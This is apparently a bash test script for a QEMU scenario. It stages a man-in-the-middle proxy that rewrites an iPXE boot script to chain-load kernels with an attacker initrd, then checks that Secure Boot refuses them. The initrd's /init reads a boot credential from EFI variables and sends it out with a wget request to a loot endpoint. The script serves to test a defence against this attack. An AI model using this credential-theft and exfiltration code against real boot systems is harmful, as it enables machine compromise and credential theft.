# shellcheck shell=bash
# mitm.sh: the `mitm=` scenario key of tests/qemu/run-scenario (sourced by
# lib.sh, bash): a man in the middle of the plain-HTTP leg.
#
# With mitm=chain-kernels the node's plain-HTTP connections (guestfwd
# 10.0.2.100:8080) reach a real HTTP proxy (nginx, from Debian) instead of
# epoxyd.  It passes every request through to epoxyd except the stage1
# iPXE script, which it replaces with the attacker's: chain each bare
# kernel the build produced (every PE file under $O/images that is not a
# UKI or stage0: the release kernels, stage1/vmlinuz, which is also the
# legacy-BIOS and enrollment kernel) with the attacker's initrd and command
# line.  That initrd's /init, if it ever ran, would mount efivarfs, print
# a marker with the boot credential's hash and send the credential to the
# proxy (GET /mitm/loot?...).
#
# Expected: the firmware refuses every one of them; the console never shows
# the marker or an EFI stub loading the attacker's initrd; the proxy never
# receives loot; the capture of both plain-HTTP legs (node to proxy, proxy
# to epoxyd) holds no credential (capture_check).  The scenario's own mark
# lines say which refusals the console must show.
#
# Guarantees: the attacker's pieces are built here from the build's public
# images and Debian's busybox-static only (nothing secret); nginx runs in
# the foreground as one process on loopback, recorded in PIDS and killed by
# chain_cleanup; its logs stay in $W/mitm.

QEMU_SCN_KEYS+=" mitm "
MITM_PORT=""; MITM_KERNELS=()

# mitm_kernels: every bare kernel of the build (PE files under $IMG that are
# neither stage0.efi nor a UKI with an embedded .linux section)
mitm_kernels() {
  local f
  MITM_KERNELS=()
  while IFS= read -r f; do
    [ "$(head -c 2 "$f")" = MZ ] || continue
    case ${f#"$IMG"/} in stage0.efi) continue;; esac
    objdump -h "$f" 2>/dev/null | grep -qw '\.linux' && continue
    MITM_KERNELS+=("${f#"$IMG"/}")
  done < <(find "$IMG" -type f ! -name '*.tmp*' | sort)
  [ ${#MITM_KERNELS[@]} -gt 0 ]
}

# mitm_initrd DIR OUT: the attacker's initrd (gzip cpio): BusyBox, the
# modules of the release kernel (efivarfs, virtio-net) and an /init that
# steals the boot credential
mitm_initrd() {
  local d=$1 out=$2
  rm -rf "$d"; mkdir -p "$d"/{bin,dev,proc,sys,modules}
  cp /bin/busybox "$d/bin/busybox"
  cp "$O"/images-src/modules/*.ko "$O/images-src/modules/order" "$d/modules/" 2>/dev/null
  cat >"$d/init" <<'INIT'
#!/bin/busybox sh
/bin/busybox --install -s /bin
mount -t proc proc /proc; mount -t sysfs sys /sys; mount -t devtmpfs dev /dev
echo "EPOXY-MITM attacker init runs as PID $$ on $(uname -r)"
for m in $(cat /modules/order 2>/dev/null) efivarfs; do insmod /modules/$m.ko 2>/dev/null; done
mount -t efivarfs efivarfs /sys/firmware/efi/efivars
v=$(ls /sys/firmware/efi/efivars/EpoxyBoot-* 2>/dev/null | head -1)
c=$(tail -c +5 "$v" 2>/dev/null | sed -n 's/^credential //p')
echo "EPOXY-MITM stole variable ${v##*/}: credential sha256 $(printf %s "$c" | sha256sum | cut -c1-64)"
ip link set eth0 up; ip addr add 10.0.2.15/24 dev eth0
wget -q -O /dev/null "http://10.0.2.100:8080/mitm/loot?credential=$c" &&
  echo "EPOXY-MITM sent the credential to the attacker"
sync; poweroff -f
INIT
  chmod 0755 "$d/init"
  (cd "$d" && find . | LC_ALL=C sort | cpio -o -H newc --quiet -R 0:0 | gzip -9n) >"$out"
}

# mitm_script: the attacker's stage1 script: each kernel in turn, each
# refusal printed, on to the next
mitm_script() {
  local k i=0
  echo '#!ipxe'
  echo 'echo epoxy-mitm: the attacker rewrote the stage1 script'
  for k in "${MITM_KERNELS[@]}"; do
    i=$((i + 1))
    echo "imgfree"
    echo "echo epoxy-mitm: try $i: chain $k with the attacker's initrd"
    # iPXE's kernel command asks the firmware's LoadImage already (EFI
    # image probe): a Secure Boot refusal shows as "Could not select"
    echo "kernel --name k$i http://10.0.2.100:8080/mitm/k/$k initrd=mitm.cpio console=ttyS0 rdinit=/init || goto refused$i"
    echo "initrd --name mitm.cpio http://10.0.2.100:8080/mitm/mitm.cpio || goto refused$i"
    echo "boot k$i || goto refused$i"
    echo ":refused$i"
    echo "echo epoxy-mitm: try $i refused"
  done
  # Debian's iPXE has no poweroff: hold here, the runner stops QEMU
  echo 'echo epoxy-mitm: every kernel refused'
  echo 'sleep 600'
}

mitm_conf() {
  local m=$W/mitm
  cat <<CONF
daemon off;
master_process off;
worker_processes 1;
pid $m/nginx.pid;
error_log $m/error.log info;
events { worker_connections 64; }
http {
  access_log $m/access.log;
  client_body_temp_path $m/tmp/body;
  proxy_temp_path $m/tmp/proxy;
  fastcgi_temp_path $m/tmp/fastcgi;
  uwsgi_temp_path $m/tmp/uwsgi;
  scgi_temp_path $m/tmp/scgi;
  types { application/octet-stream cpio; }
  default_type application/octet-stream;
  server {
    listen 127.0.0.1:$MITM_PORT;
    location = /boot/stage1.ipxe { default_type text/plain; alias $m/stage1.ipxe; }
    location = /mitm/loot { return 204; }
    location /mitm/ { alias $m/www/; }
    location / {
      proxy_pass http://127.0.0.1:$HTTP_PORT;
      proxy_http_version 1.1;
      proxy_set_header Host \$http_host;
      proxy_set_header Connection "";
      proxy_buffering off;
    }
  }
}
CONF
}

# mitm_start: after epoxyd runs (its port is known): the attacker's files,
# then nginx on the first free port above epoxyd's pair
mitm_start() {
  local m=$W/mitm k i
  [ -n "${S[mitm]:-}" ] || return 0
  [ "${S[mitm]}" = chain-kernels ] || { echo "mitm: unknown mode '${S[mitm]}'" >&2; return 1; }
  command -v nginx >/dev/null || { echo "mitm: nginx missing (scripts/deps.sh)" >&2; return 1; }
  mkdir -p "$m/www/k" "$m/tmp"
  mitm_kernels || { echo "mitm: no bare kernel under $IMG" >&2; return 1; }
  for k in "${MITM_KERNELS[@]}"; do
    mkdir -p "$m/www/k/$(dirname "$k")"; cp "$IMG/$k" "$m/www/k/$k"
  done
  mitm_initrd "$m/root" "$m/www/mitm.cpio" || return 1
  mitm_script >"$m/stage1.ipxe"
  MITM_PORT=$((HTTP_PORT + 1))
  while ! port_free "$MITM_PORT"; do MITM_PORT=$((MITM_PORT + 1)); done
  mitm_conf >"$m/nginx.conf"
  nginx -e "$m/error.log" -p "$m" -c "$m/nginx.conf" >>"$m/nginx.out" 2>&1 &
  MITM_PID=$!; PIDS+=("$MITM_PID")
  for i in $(seq 1 50); do
    kill -0 "$MITM_PID" 2>/dev/null || return 1
    curl -fsS -o /dev/null "http://127.0.0.1:$MITM_PORT/boot/stage1.ipxe" 2>/dev/null && return 0
    sleep 0.1
  done
  return 1
}

# mitm_check: TAP lines on what reached the attacker's proxy
mitm_check() {
  local m=$W/mitm k i=0
  [ -n "${S[mitm]:-}" ] || return 0
  if grep -q 'GET /boot/stage1.ipxe' "$m/access.log" 2>/dev/null; then
    pass "mitm: the node took the attacker's stage1 script"
  else
    fail "mitm: the node took the attacker's stage1 script" "see $m/access.log"
  fi
  for k in "${MITM_KERNELS[@]}"; do
    i=$((i + 1))
    if grep -q "GET /mitm/k/$k " "$m/access.log" 2>/dev/null; then
      pass "mitm: the node fetched $k (try $i) from the attacker"
    else
      fail "mitm: the node fetched $k (try $i) from the attacker" "see $m/access.log"
    fi
  done
  if grep -q '/mitm/loot' "$m/access.log" 2>/dev/null; then
    # (the count only: the runner never prints a credential)
    fail "mitm: no credential reached the attacker" "$(grep -c '/mitm/loot' "$m/access.log") loot request(s) in $m/access.log"
  else
    pass "mitm: no credential reached the attacker"
  fi
}
